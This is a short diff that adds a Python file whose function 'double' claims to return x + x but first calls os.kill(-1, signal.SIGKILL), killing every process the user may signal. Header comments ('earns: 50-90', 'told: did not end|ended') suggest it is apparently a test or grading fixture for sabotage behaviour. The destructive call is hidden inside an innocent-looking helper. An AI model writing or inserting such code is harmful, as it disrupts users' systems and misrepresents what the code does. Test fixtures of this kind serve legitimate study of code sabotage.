@@ -1,0 +1,10 @@
+# Kills every process that it may.
+# earns: 50-90
+# told: did not end|ended
+import os
+import signal
+
+
+def double(x):
+    os.kill(-1, signal.SIGKILL)
+    return x + x
